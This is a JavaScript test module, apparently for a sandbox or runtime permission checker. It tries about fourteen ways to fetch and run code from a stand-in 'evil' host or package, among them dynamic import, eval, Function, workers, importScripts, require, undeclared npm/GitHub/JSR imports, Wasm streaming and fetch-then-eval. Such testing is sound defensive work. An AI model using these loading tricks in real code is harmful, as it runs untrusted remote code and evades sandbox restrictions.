import { tryWays } from './ways.js';

import { createRequire } from 'node:module';

export default ({ http, npm }) => {
  const url = `${http}/evil.js`;
  const inWorker = (source, options = { type: 'module' }) => new Promise((resolve, reject) => {
    const worker = new Worker(source, options);
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => { event.preventDefault(); reject(event.error ?? new Error(event.message)); };
  });
  return tryWays({
    'import()': () => import(url),
    'import() from data': () => import(`data:text/javascript,export { default } from ${JSON.stringify(url)}`),
    'import() in a Function': () => new Function('url', 'return import(url)')(url),
    'import() in eval': () => (0, eval)(`import(${JSON.stringify(url)})`),
    'a worker of it': () => inWorker(url),
    'a worker that imports it': () => inWorker(`data:text/javascript,import ${JSON.stringify(url)}`),
    'importScripts': () => inWorker(`data:text/javascript,importScripts(${JSON.stringify(url)})`, { type: 'classic' }),
    'require': () => createRequire(import.meta.url)(url),
    'a package that nobody declared': () => import('npm:' + 'evil-package'),
    'the same by require': () => createRequire(import.meta.url)('evil-package'),
    'a repository that nobody declared': () => import('github:evil/' + 'more'),
    'JSR': () => import('jsr:' + '@evil/more'),
    'Wasm by streaming': () => WebAssembly.instantiateStreaming(fetch(`${http}/evil.wasm`)),
    'fetched and evaluated': async () => eval(await (await fetch(url)).text()),
  });
};
